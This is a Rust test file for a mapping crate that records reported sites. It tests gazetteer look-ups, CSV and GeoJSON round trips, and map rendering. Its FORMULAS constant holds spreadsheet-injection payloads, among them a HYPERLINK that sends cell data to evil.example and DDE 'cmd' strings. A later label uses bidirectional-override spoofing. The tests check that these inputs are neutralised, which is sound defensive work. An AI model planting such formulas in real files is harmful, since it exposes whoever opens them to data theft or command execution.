//! The geo crate against its bundled data: gazetteer look-ups, countries and outlines, the
//! map, and the registry formats round trip with per-row problems.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use quietline_core::SiteId;
use quietline_core::site::{
    Claim, ClaimKind, Location, Precision, PublicSource, Site, SiteType, Source, VerificationLevel,
};
use quietline_geo::{
    MapView, Marker, RegistryFormat, countries, country, country_name, find_city, gazetteer_size,
    parse_registry, render_map, sites_csv, sites_geojson, suggest_cities,
};

#[test]
fn the_gazetteer_finds_cities_by_name_in_any_case_and_by_han_name() {
    assert!(gazetteer_size() > 30_000, "{}", gazetteer_size());
    let prato = find_city("prato", Some("IT")).unwrap();
    assert_eq!(prato.name, "Prato");
    assert!((prato.lat - 43.88).abs() < 0.01 && (prato.lon - 11.10).abs() < 0.01);
    assert_eq!(
        find_city("普拉托", None).unwrap().geoname_id,
        prato.geoname_id
    );
    // The largest of several homonyms, unless the country says otherwise.
    assert_eq!(find_city("London", None).unwrap().country, "GB");
    assert_eq!(find_city("London", Some("CA")).unwrap().country, "CA");
    assert!(find_city("Nowhereville", None).is_none());
    let suggestions = suggest_cities("roT", Some("NL"), 3);
    assert_eq!(suggestions.first().unwrap().name, "Rotterdam");
}

#[test]
fn every_country_has_a_name_and_the_big_ones_an_outline() {
    assert!(countries().len() >= 240);
    for iso in ["IT", "NL", "US", "FR", "CN", "ZA", "BR", "AU", "RS", "HU"] {
        let c = country(iso).unwrap_or_else(|| panic!("{iso}"));
        assert!(c.numeric.len() == 3, "{iso}");
        assert!(
            render_map(&MapView::Country(iso.into()), &[], &|_| None)
                .contains("class=\"selected\""),
            "{iso} has an outline"
        );
    }
    assert_eq!(country_name("NL"), "The Netherlands");
    assert_eq!(country_name("XX"), "XX");
}

fn site(name: &str, lat: f64, lon: f64, level: VerificationLevel) -> Site {
    Site {
        names: vec![name.into(), "福州警侨".into()],
        address: "Via \"Roma\", 1".into(),
        city: "Prato".into(),
        country: "IT".into(),
        location: Some(Location {
            lat,
            lon,
            precision: Precision::Street,
        }),
        kind: SiteType::AssociationOffice,
        agency: "Fuzhou Public Security Bureau".into(),
        claims: vec![Claim {
            id: quietline_core::ClaimId::random(),
            date: "2022-09".into(),
            kind: ClaimKind::Reported,
            source: Source::Public(PublicSource {
                title: "110 Overseas".into(),
                publisher: "Safeguard Defenders".into(),
                date: "2022-09-12".into(),
                url: "https://safeguarddefenders.com/".into(),
            }),
            summary: "Listed, with a line, a comma".into(),
        }],
        level,
        notes: "multi\nline".into(),
        reports: vec![],
    }
}

#[test]
fn csv_and_geojson_exports_read_back_as_the_same_sites() {
    let a = site("Prato office", 43.88, 11.1, VerificationLevel::Corroborated);
    let b = Site {
        location: None,
        city: "Rotterdam".into(),
        country: "NL".into(),
        ..site("Rotterdam", 0.0, 0.0, VerificationLevel::AllegationOnly)
    };
    let sites = [(SiteId::random(), &a), (SiteId::random(), &b)];
    for (text, format) in [
        (sites_csv(&sites), RegistryFormat::Csv),
        (sites_geojson(&sites), RegistryFormat::GeoJson),
    ] {
        let read = parse_registry(&text, format);
        assert!(read.problems.is_empty(), "{format:?}: {:?}", read.problems);
        assert_eq!(read.sites[0], a, "{format:?}");
        // No point: geocoded offline to the city.
        let located = read.sites[1].location.unwrap();
        assert_eq!(located.precision, Precision::City);
        assert!((located.lat - 51.92).abs() < 0.01, "{located:?}");
    }
    let geojson: serde_json::Value = serde_json::from_str(&sites_geojson(&sites)).unwrap();
    assert_eq!(geojson["type"], "FeatureCollection");
    assert_eq!(
        geojson["features"][0]["geometry"]["coordinates"],
        serde_json::json!([11.1, 43.88]),
        "RFC 7946: longitude first"
    );
    assert!(geojson["features"][1]["geometry"].is_null());
}

#[test]
fn a_bad_csv_lists_every_bad_row_with_its_line_and_reason() {
    let text = "names,type,level,latitude,longitude,country,claims\n\
                Good one,station,corroborated,43.8,11.1,IT,\n\
                ,station,corroborated,,,IT,\n\
                \"Two\nlines\",castle,corroborated,,,IT,\n\
                Far,station,corroborated,95,11,IT,\n\
                Half,station,corroborated,45,,IT,\n\
                Witness,station,corroborated,,,IT,\"[{\"\"date\"\":\"\"2023\"\",\"\"kind\"\":\"\"reported\"\",\"\"source\"\":{\"\"type\"\":\"\"witness\"\",\"\"report\"\":\"\"0123456789abcdef0123456789abcdef\"\"}}]\"\n\
                Also good,other,,,,Italy,\n";
    let read = parse_registry(text, RegistryFormat::Csv);
    assert_eq!(read.sites.len(), 1);
    let lines: Vec<u64> = read.problems.iter().map(|p| p.line).collect();
    assert_eq!(lines, vec![3, 4, 6, 7, 8, 9], "{:?}", read.problems);
    let reasons: Vec<&str> = read.problems.iter().map(|p| p.reason.as_str()).collect();
    assert!(reasons[0].contains("name is required"));
    assert!(reasons[1].contains("Unknown type \"castle\""));
    assert!(reasons[2].contains("Latitude must be between"));
    assert!(reasons[3].contains("go together"));
    assert!(reasons[4].contains("witness"));
    assert!(reasons[5].contains("two-letter"));
}

#[test]
fn geojson_import_names_the_feature_and_refuses_other_geometries() {
    let text = r#"{"type":"FeatureCollection","features":[
        {"type":"Feature","geometry":{"type":"Point","coordinates":[4.47,51.92]},"properties":{"names":["A"],"type":"station"}},
        {"type":"Feature","geometry":{"type":"LineString","coordinates":[[0,0],[1,1]]},"properties":{"names":["B"]}},
        {"type":"Feature","geometry":null,"properties":{"names":"C","level":"rumour"}}]}"#;
    let read = parse_registry(text, RegistryFormat::GeoJson);
    assert_eq!(read.sites.len(), 1);
    assert_eq!(read.sites[0].location.unwrap().lat, 51.92);
    assert_eq!(read.problems.len(), 2);
    assert_eq!(read.problems[0].line, 2);
    assert!(read.problems[0].reason.contains("LineString"));
    assert_eq!(read.problems[1].line, 3);
    let broken = parse_registry("{\"type\":", RegistryFormat::GeoJson);
    assert_eq!(broken.problems[0].line, 0);
}

#[test]
fn ten_thousand_markers_render_to_a_bounded_svg() {
    let markers: Vec<Marker> = (0..10_000)
        .map(|i| Marker {
            lat: -50.0 + (i % 130) as f64,
            lon: -170.0 + ((i * 7) % 340) as f64,
            level: VerificationLevel::ALL[i % 3],
            label: format!("site {i}"),
            href: format!("/investigator/sites/{i}"),
            country: String::new(),
        })
        .collect();
    let svg = render_map(&MapView::World, &markers, &|_| None);
    assert!(svg.contains("Map of 10000 sites"));
    assert!(svg.len() < 3_000_000, "{}", svg.len());
}

/// What a reporter might type as a place's name, aimed at whoever opens an export.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

#[test]
fn csv_exports_neutralise_formulas_and_import_removes_the_guard() {
    let hostile: Vec<Site> = FORMULAS
        .iter()
        .map(|f| Site {
            names: vec![(*f).to_owned()],
            address: (*f).to_owned(),
            notes: (*f).to_owned(),
            ..site("x", -33.86, -151.2, VerificationLevel::AllegationOnly)
        })
        .collect();
    let sites: Vec<(SiteId, &Site)> = hostile.iter().map(|s| (SiteId::random(), s)).collect();
    let csv = sites_csv(&sites);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    for record in reader.records() {
        let record = record.unwrap();
        for name in ["names", "address", "notes"] {
            let cell = &record[column(name)];
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{name}: {cell:?} would run as a formula"
            );
            assert!(cell.starts_with('\''), "{name}: {cell:?}");
        }
        // Coordinates stay numbers.
        assert_eq!(&record[column("latitude")], "-33.86");
        assert_eq!(&record[column("longitude")], "-151.2");
    }
    let read = parse_registry(&csv, RegistryFormat::Csv);
    assert!(read.problems.is_empty(), "{:?}", read.problems);
    // Read back as typed (trimmed, as every imported cell is; names split at "|").
    let addresses: Vec<&str> = read.sites.iter().map(|s| s.address.as_str()).collect();
    let typed: Vec<&str> = FORMULAS.iter().map(|f| f.trim()).collect();
    assert_eq!(addresses, typed);
}

#[test]
fn the_map_drops_bidirectional_controls_from_labels() {
    let markers = [Marker {
        lat: 43.88,
        lon: 11.1,
        level: VerificationLevel::Corroborated,
        label: "Office \u{202E}txt.exe\u{202C} \u{2066}x\u{2069}".into(),
        href: "/investigator/sites/1".into(),
        country: "IT".into(),
    }];
    let svg = render_map(&MapView::World, &markers, &|_| None);
    assert!(svg.contains("Office txt.exe x"), "{svg}");
    for c in ('\u{202A}'..='\u{202E}').chain('\u{2066}'..='\u{2069}') {
        assert!(!svg.contains(c), "U+{:04X} in the map", c as u32);
    }
}
